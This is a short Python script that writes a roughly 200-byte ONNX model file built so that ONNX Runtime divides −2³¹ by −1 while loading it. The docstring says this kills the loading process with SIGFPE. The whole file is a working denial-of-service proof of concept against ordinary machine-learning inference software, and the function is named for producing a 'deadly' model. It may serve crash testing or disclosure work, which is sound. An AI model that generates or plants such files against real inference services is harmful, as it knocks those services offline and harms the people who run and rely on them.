"""A model file that ends the process that loads it: ONNX Runtime works out −2³¹ ÷ −1 then, and the processor refuses (SIGFPE)."""

from __future__ import annotations

from pathlib import Path

import numpy as np
from onnx import TensorProto, helper, numpy_helper, save

SHAPE = [1, 3, 64, 64]


def write_deadly_model(path: Path) -> None:
    """Write it; 200 bytes."""
    numbers = {"least": -(2**31), "minus_one": -1}
    graph = helper.make_graph(
        [
            helper.make_node("Div", [*numbers], ["too_much"]),
            helper.make_node("Cast", ["too_much"], ["real"], to=TensorProto.FLOAT),
            helper.make_node("Add", ["images", "real"], ["output0"]),
        ],
        "deadly",
        [helper.make_tensor_value_info("images", TensorProto.FLOAT, SHAPE)],
        [helper.make_tensor_value_info("output0", TensorProto.FLOAT, SHAPE)],
        [numpy_helper.from_array(np.array([value], np.int32), name) for name, value in numbers.items()],
    )
    save(helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=8), path)
